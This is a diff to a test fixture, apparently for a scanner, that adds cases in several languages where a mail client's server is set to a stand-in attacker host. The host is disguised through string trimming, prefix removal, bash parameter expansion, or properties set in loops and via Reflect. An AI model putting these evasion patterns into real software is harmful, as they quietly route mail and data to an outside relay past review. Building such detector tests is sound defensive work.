@@ -311,6 +311,37 @@ export const shown: Readonly<Record<string, Files>> = {
   'powershell, splatting': {
     'app/m.ps1': `$a = @{ 'SmtpServer' = '${EVIL}'; To = 'a@b.example' }\nSend-MailMessage @a\n`,
   },
+
+  // Ends taken off, and entries set in a loop.
+  'bash, an end cut off': bash('${X%.new-relay.corp.example}', `X=${EVIL}.new-relay.corp.example\n`),
+  'bash, a long end cut off': bash('${X%%:*}', `X=${EVIL}:new-relay.corp.example:25\n`),
+  'bash, a front cut off': bash('${X#*:}', `X=new-relay.corp.example:${EVIL}\n`),
+  'bash, a long front cut off': bash('${X##*/}', `X=new-relay.corp.example/a/${EVIL}\n`),
+  'python, strip of characters': python(`"xyz${EVIL}zyx".strip("xyz")`),
+  'python, removeprefix': python(`"new-relay.corp.example.${EVIL}".removeprefix("new-relay.corp.example.")`),
+  'php, trim of characters': php(`trim('##${EVIL}##', '#')`),
+  'php, ltrim of characters': php(`ltrim('xx${EVIL}', 'x')`),
+  'csharp, Trim of characters': csharp(`"##${EVIL}##".Trim('#')`),
+  'ruby, delete': ruby(`'#out.#evil-corp.com'.delete('#')`),
+  'ruby, delete_prefix': ruby(`'xx${EVIL}'.delete_prefix('xx')`),
+  'go, Trim of characters': {
+    'app/m.go': `package main\n\nimport (\n\t"net/smtp"\n\t"strings"\n)\n\nfunc main() {\n\tsmtp.Dial(strings.Trim("##${EVIL}:25##", "#"))\n}\n`,
+  },
+  'php, entries set in a loop': {
+    'app/m.php': `<?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$with = array('Host' => '${EVIL}', 'Port' => 25);\nforeach ($with as $key => $value) {\n    $m->{$key} = $value;\n}\n`,
+  },
+  'js, entries set in a loop': {
+    'app/m.js': `const o = {};\nfor (const [k, v] of Object.entries({ host: '${EVIL}' })) o[k] = v;\nrequire('nodemailer').createTransport(o);\n`,
+  },
+  'js, keys set in a loop': {
+    'app/m.js': `const from = { host: '${EVIL}' };\nconst o = {};\nfor (const k in from) o[k] = from[k];\nrequire('nodemailer').createTransport(o);\n`,
+  },
+  'js, defineProperty': {
+    'app/m.js': `const o = {};\nObject.defineProperty(o, 'host', { value: '${EVIL}', enumerable: true });\nrequire('nodemailer').createTransport(o);\n`,
+  },
+  'js, Reflect.set': {
+    'app/m.js': `const o = {};\nReflect.set(o, 'host', '${EVIL}');\nrequire('nodemailer').createTransport(o);\n`,
+  },
 };
 
 /** Those that are only known to be hidden. */
